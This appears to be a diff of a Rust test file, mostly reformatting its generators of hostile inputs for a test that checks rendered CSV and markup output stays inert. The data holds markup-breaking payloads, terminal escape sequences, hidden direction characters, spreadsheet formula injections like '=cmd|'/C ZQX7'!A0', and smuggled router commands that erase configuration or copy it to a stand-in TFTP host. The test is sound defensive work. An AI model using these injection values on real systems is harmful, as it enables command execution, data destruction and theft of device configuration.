@@ -48,34 +48,88 @@ fn markup() -> Vec<String> {
         "<x style=background:url(//ZQX7.example)>",
     ];
     const BEFORE: [&str; 7] = ["", "\">", "'>", "</td></pre></code></title>", "-->", "]]>", "&lt;/p>"];
-    ELEMENTS.iter().flat_map(|element| BEFORE.iter().map(move |before| format!("{before}{element}"))).collect()
+    ELEMENTS
+        .iter()
+        .flat_map(|element| BEFORE.iter().map(move |before| format!("{before}{element}")))
+        .collect()
 }
 
 /// What hides, turns round or takes over: controls of terminals, marks of direction, what has no width.
 fn unseen() -> Vec<String> {
     let signs = [
-        '\u{7}', '\u{8}', '\u{b}', '\u{c}', '\u{e}', '\u{1b}', '\u{7f}', '\u{85}', '\u{90}', '\u{9b}', '\u{9d}', '\u{ad}',
-        '\u{61c}', '\u{180e}', '\u{200b}', '\u{200c}', '\u{200d}', '\u{200e}', '\u{200f}', '\u{2028}', '\u{2029}',
-        '\u{202a}', '\u{202b}', '\u{202c}', '\u{202d}', '\u{202e}', '\u{2060}', '\u{2066}', '\u{2067}', '\u{2068}',
-        '\u{2069}', '\u{feff}', '\u{fff9}', '\u{e0001}', '\u{e0041}',
+        '\u{7}',
+        '\u{8}',
+        '\u{b}',
+        '\u{c}',
+        '\u{e}',
+        '\u{1b}',
+        '\u{7f}',
+        '\u{85}',
+        '\u{90}',
+        '\u{9b}',
+        '\u{9d}',
+        '\u{ad}',
+        '\u{61c}',
+        '\u{180e}',
+        '\u{200b}',
+        '\u{200c}',
+        '\u{200d}',
+        '\u{200e}',
+        '\u{200f}',
+        '\u{2028}',
+        '\u{2029}',
+        '\u{202a}',
+        '\u{202b}',
+        '\u{202c}',
+        '\u{202d}',
+        '\u{202e}',
+        '\u{2060}',
+        '\u{2066}',
+        '\u{2067}',
+        '\u{2068}',
+        '\u{2069}',
+        '\u{feff}',
+        '\u{fff9}',
+        '\u{e0001}',
+        '\u{e0041}',
     ];
-    let sequences =
-        ["\u{1b}[2JZQX7", "\u{1b}]0;ZQX7\u{7}", "\u{1b}]8;;https://ZQX7.example\u{7}x", "\u{1b}[31mZQX7\u{1b}[0m"];
+    let sequences = [
+        "\u{1b}[2JZQX7",
+        "\u{1b}]0;ZQX7\u{7}",
+        "\u{1b}]8;;https://ZQX7.example\u{7}x",
+        "\u{1b}[31mZQX7\u{1b}[0m",
+    ];
     let alone = signs.iter().flat_map(|sign| [format!("ZQX7{sign}x"), format!("{sign}ZQX7")]);
     alone.chain(sequences.map(str::to_owned)).collect()
 }
 
 /// Formulas of spreadsheets, behind what such a program passes by.
 fn formulas() -> Vec<String> {
-    let formulas = ["=ZQX7()", "+ZQX7", "-ZQX7", "@ZQX7", "=cmd|'/C ZQX7'!A0", "＝ZQX7()", "＋ZQX7", "－ZQX7", "＠ZQX7", "%ZQX7", "|ZQX7"];
+    let formulas = [
+        "=ZQX7()",
+        "+ZQX7",
+        "-ZQX7",
+        "@ZQX7",
+        "=cmd|'/C ZQX7'!A0",
+        "＝ZQX7()",
+        "＋ZQX7",
+        "－ZQX7",
+        "＠ZQX7",
+        "%ZQX7",
+        "|ZQX7",
+    ];
     let before = ["", " ", "\"", "\",\"", "'"];
-    formulas.iter().flat_map(|formula| before.iter().map(move |before| format!("{before}{formula}"))).collect()
+    formulas
+        .iter()
+        .flat_map(|formula| before.iter().map(move |before| format!("{before}{formula}")))
+        .collect()
 }
 
 /// Names that would end a command and begin another one.
 fn commands() -> Vec<String> {
     let ends = [";", "\u{b}", "|", "&&", "`", "$(", "?", "!", " ", "\\", "'", "\""];
-    let orders = ["reload", "write erase", "no crypto ca trustpoint ZQX7", "copy running-config tftp://ZQX7.example"];
+    let orders =
+        ["reload", "write erase", "no crypto ca trustpoint ZQX7", "copy running-config tftp://ZQX7.example"];
     ends.iter().flat_map(|end| orders.iter().map(move |order| format!("ZQX7{end}{order}"))).collect()
 }
 
@@ -210,7 +264,8 @@ fn no_string_of_a_file_becomes_markup_a_sequence_a_formula_or_a_command() {
         let plan = plan(&readings, &Said::new(), NOW, &changes, true);
         for cell in cells(&render_plan(&plan, PlanForm::Csv, Lang::En)) {
             planned += usize::from(cell.contains(MARK));
-            let formula = cell.trim_start().starts_with(['=', '+', '-', '@', '|', '%', '\t', '＝', '＋', '－', '＠']);
+            let formula =
+                cell.trim_start().starts_with(['=', '+', '-', '@', '|', '%', '\t', '＝', '＋', '－', '＠']);
             assert!(!formula, "{hostile:?}: {cell}");
             assert_eq!(cell.chars().find(|sign| steers(*sign)), None, "{hostile:?}: {cell}");
         }
